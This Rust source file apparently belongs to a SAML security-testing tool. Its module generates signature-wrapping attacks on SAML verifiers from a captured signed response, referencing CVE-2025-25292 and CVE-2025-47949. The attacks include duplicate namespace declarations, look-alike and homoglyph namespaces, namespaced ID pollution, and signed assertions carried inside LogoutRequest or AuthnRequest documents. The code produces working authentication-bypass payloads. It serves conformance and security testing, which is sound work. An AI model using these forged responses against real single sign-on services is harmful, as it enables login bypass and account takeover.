//! Attacks on how a verifier resolves names: namespace declarations and prefixes that two XML
//! layers read differently, ID attributes in a namespace, and the signed assertion carried by a
//! document that is not a Response.
//!
//! - CVE-2025-25292 (ruby-saml, "namespace handling"; its incomplete fix CVE-2025-66567): two
//!   parsers disagree about which namespace an element is in. Here the evil assertion declares
//!   `xmlns:saml` twice, first a foreign URI, then SAML's: a lenient parser that keeps the first
//!   declaration sees a foreign element (so one assertion, the signed one), while one that keeps
//!   the last reads the evil assertion first. XML forbids the duplicate (a well-formedness error).
//! - PortSwigger, "The Fragile Lock" (Black Hat Europe 2025): namespace confusion (SAML elements
//!   in a look-alike or foreign namespace with the right local name, for readers that match on
//!   the prefix or the local name) and attribute pollution (an `ID` in a namespace that a lax ID
//!   lookup takes for the element's ID).
//! - CVE-2025-47949's carrier variant (samlify): the IdP's signed assertion inside the attacker's
//!   LogoutRequest or AuthnRequest, for a verifier that checks "a signed assertion" whatever the
//!   document is.
//!
//! As in [`super`], none of them holds the IdP's key: each edits the captured, signed response.

use libxml::tree::{Document, Node, SaveOptions};

use super::{AttackError, SignatureWrapping, child_element};
use crate::xml::ASSERTION_NS;

/// The foreign namespace of [`SignatureWrapping::EvilAssertionForeignNamespace`] and the first,
/// foreign declaration of [`SignatureWrapping::DuplicateNamespaceDeclaration`].
pub const FOREIGN_NAMESPACE: &str = "urn:samlconf:attack:not-saml";

/// SAML's assertion namespace with a trailing slash.
pub const TRAILING_SLASH_NAMESPACE: &str = "urn:oasis:names:tc:SAML:2.0:assertion/";
/// SAML's assertion namespace with its last segment capitalised (XML namespace names compare
/// character by character: Namespaces in XML §2.3).
pub const UPPER_CASE_NAMESPACE: &str = "urn:oasis:names:tc:SAML:2.0:Assertion";
/// SAML's assertion namespace with a Cyrillic `а` (U+0430) for the Latin `a` of `assertion`.
pub const HOMOGLYPH_NAMESPACE: &str = "urn:oasis:names:tc:SAML:2.0:\u{430}ssertion";

/// Placeholder attribute replaced by the duplicate declarations in the serialised text (libxml
/// cannot build an element with two declarations of one prefix).
const DUPLICATE_DECLARATIONS: &str = "samlconfDuplicateDeclarations";

/// Applies one of this module's attacks; `response` is the document's root and `signed` its
/// signed assertion.
pub(super) fn apply(
    doc: &mut Document,
    response: Node,
    mut signed: Node,
    attack: SignatureWrapping,
) -> Result<String, AttackError> {
    use SignatureWrapping as W;
    let signed_id = signed.get_attribute_no_ns("ID").unwrap_or_default();
    let fresh_id = format!("_evil{}", signed_id.trim_start_matches('_'));
    match attack {
        W::DuplicateNamespaceDeclaration => {
            let mut evil = super::evil_copy(doc, &fresh_id, false)?;
            evil.set_attribute(DUPLICATE_DECLARATIONS, "")
                .map_err(|_| edit("mark the evil assertion"))?;
            insert_before(&mut signed, &mut evil)?;
            let xml = doc.to_string_with_options(SaveOptions::default());
            return Ok(xml.replacen(
                &format!(r#"{DUPLICATE_DECLARATIONS}="""#),
                &format!(r#"xmlns:saml="{FOREIGN_NAMESPACE}" xmlns:saml="{ASSERTION_NS}""#),
                1,
            ));
        }
        W::EvilAssertionNamespaceTrailingSlash
        | W::EvilAssertionNamespaceUpperCase
        | W::EvilAssertionNamespaceHomoglyph
        | W::EvilAssertionForeignNamespace => {
            let href = match attack {
                W::EvilAssertionNamespaceTrailingSlash => TRAILING_SLASH_NAMESPACE,
                W::EvilAssertionNamespaceUpperCase => UPPER_CASE_NAMESPACE,
                W::EvilAssertionNamespaceHomoglyph => HOMOGLYPH_NAMESPACE,
                _ => FOREIGN_NAMESPACE,
            };
            let mut evil = super::evil_copy(doc, &fresh_id, false)?;
            insert_before(&mut signed, &mut evil)?;
            let xml = doc.to_string_with_options(SaveOptions::default());
            return rebind_first_assertion(&xml, href);
        }
        W::PrefixedIdOnEvilAssertion => {
            let mut evil = super::evil_copy(doc, &fresh_id, false)?;
            let protocol = response
                .get_namespace()
                .ok_or(edit("find the samlp namespace"))?;
            evil.set_attribute_ns("ID", &signed_id, &protocol)
                .map_err(|_| edit("set samlp:ID on the evil assertion"))?;
            insert_before(&mut signed, &mut evil)?;
        }
        W::PrefixedIdOnResponse => {
            let mut response = response;
            let assertion_ns = signed
                .get_namespace()
                .ok_or(edit("find the saml namespace"))?;
            response
                .set_attribute_ns("ID", &signed_id, &assertion_ns)
                .map_err(|_| edit("set saml:ID on the Response"))?;
        }
        W::SignedAssertionInLogoutRequest | W::SignedAssertionInAuthnRequest => {
            let mut root = response;
            let name = match attack {
                W::SignedAssertionInLogoutRequest => "LogoutRequest",
                _ => "AuthnRequest",
            };
            root.set_name(name)
                .map_err(|_| edit("rename the document element"))?;
            root.set_attribute("ID", &format!("_evil{}", id_tail(&root)))
                .map_err(|_| edit("set the carrier's ID"))?;
            for mut child in root.get_child_elements() {
                if child.get_name() == "Status" {
                    child.unlink_node();
                    child.set_rust_owned();
                }
            }
            let mut evil = super::evil_copy(doc, &fresh_id, false)?;
            insert_before(&mut signed, &mut evil)?;
        }
        _ => return Err(edit("apply an attack this module does not build")),
    }
    Ok(doc.to_string_with_options(SaveOptions::default()))
}

fn edit(what: &'static str) -> AttackError {
    AttackError::Edit(what)
}

fn id_tail(element: &Node) -> String {
    element
        .get_attribute_no_ns("ID")
        .unwrap_or_default()
        .trim_start_matches('_')
        .to_owned()
}

fn insert_before(signed: &mut Node, evil: &mut Node) -> Result<(), AttackError> {
    signed
        .add_prev_sibling(evil)
        .map(drop)
        .map_err(|_| edit("insert the evil assertion"))
}

/// `xml` with the first `saml:Assertion` start tag (the evil one, inserted first) binding `saml`
/// to `href`: its whole subtree, written with the `saml:` prefix, is then in that namespace. (The
/// declaration is edited in the text: libxml declares the prefix on the imported copy already.)
fn rebind_first_assertion(xml: &str, href: &str) -> Result<String, AttackError> {
    let start = xml
        .find("<saml:Assertion ")
        .ok_or(edit("find the evil assertion"))?;
    let end = start + xml[start..].find('>').ok_or(edit("read its start tag"))?;
    let tag = &xml[start..end];
    let declaration = format!(r#"xmlns:saml="{href}""#);
    let rebound = match tag.find(r#"xmlns:saml=""#) {
        Some(at) => {
            let value_end = tag[at + 12..]
                .find('"')
                .ok_or(edit("read its declaration"))?;
            format!(
                "{}{declaration}{}",
                &tag[..at],
                &tag[at + 12 + value_end + 1..]
            )
        }
        None => format!("<saml:Assertion {declaration} {}", &tag[16..]),
    };
    Ok(format!("{}{rebound}{}", &xml[..start], &xml[end..]))
}

/// The Response's signed assertion (its direct child carrying a `ds:Signature`).
pub(super) fn signed_assertion(response: &Node) -> Option<Node> {
    child_element(response, ASSERTION_NS, "Assertion")
        .filter(|a| child_element(a, crate::xml::DSIG_NS, "Signature").is_some())
}
